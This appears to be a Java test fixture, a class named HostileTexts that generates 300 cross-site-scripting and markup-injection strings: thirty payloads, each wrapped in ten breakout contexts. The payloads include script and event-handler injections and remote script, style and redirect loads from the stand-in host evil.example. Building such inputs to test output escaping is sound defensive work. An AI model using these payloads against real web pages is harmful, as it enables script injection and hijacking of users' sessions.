package io.casewright.desk;

import java.util.List;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;

/// Three hundred texts that would run, load or break something in a page that takes text for markup: thirty ways to do
/// so, each in ten surroundings that it might have to break out of.
final class HostileTexts {

    private static final List<String> WAYS = List.of(
            "<script>alert(1)</script>",
            "<script src=//evil.example/x.js></script>",
            "<img src=x onerror=alert(1)>",
            "<img src=//evil.example/x.png>",
            "<svg/onload=alert(1)>",
            "<svg><script href=data:,alert(1) />",
            "<svg><animate onbegin=alert(1) attributeName=x>",
            "<math><mi xlink:href=javascript:alert(1)>x",
            "<iframe src=javascript:alert(1)>",
            "<iframe srcdoc='<script>alert(1)</script>'>",
            "<object data=javascript:alert(1)>",
            "<embed src=//evil.example/x.swf>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<style>@import '//evil.example/x.css'</style>",
            "<meta http-equiv=refresh content='0;url=//evil.example'>",
            "<base href=//evil.example/>",
            "<form action=//evil.example><button>go</form>",
            "<input autofocus onfocus=alert(1)>",
            "<details open ontoggle=alert(1)>x",
            "<video src=x onerror=alert(1)>",
            "<body onpageshow=alert(1)>",
            "<div style=background:url(//evil.example/x)>",
            "<a href=javascript:alert(1)>x</a>",
            "<template shadowrootmode=open><script>alert(1)</script>",
            "<x-y contenteditable onblur=alert(1) tabindex=0>x",
            "javascript:alert(document.domain)",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "${alert(1)}{{constructor.constructor('alert(1)')()}}",
            "&lt;img src=x onerror=alert(1)&gt;&#60;script&#62;",
            "\\u003cscript\\u003ealert(1)\\x3c/script\\x3e");

    private static final List<UnaryOperator<String>> SURROUNDINGS = List.of(
            way -> way,
            way -> "Ltd " + way,
            way -> "\"> " + way,
            way -> "' x=" + way,
            way -> "</p></span>" + way,
            way -> "</textarea></title></style></script>" + way,
            way -> "-->]]>" + way,
            way -> "[x](" + way + ")![y](" + way + ")",
            way -> "`}</lit$1234$>" + way,
            way -> "\"}]}\\n\\nevent: done\\ndata: " + way);

    private HostileTexts() {}

    static List<String> all() {
        return WAYS.stream().flatMap(HostileTexts::surrounded).toList();
    }

    private static Stream<String> surrounded(String way) {
        return SURROUNDINGS.stream().map(each -> each.apply(way));
    }
}
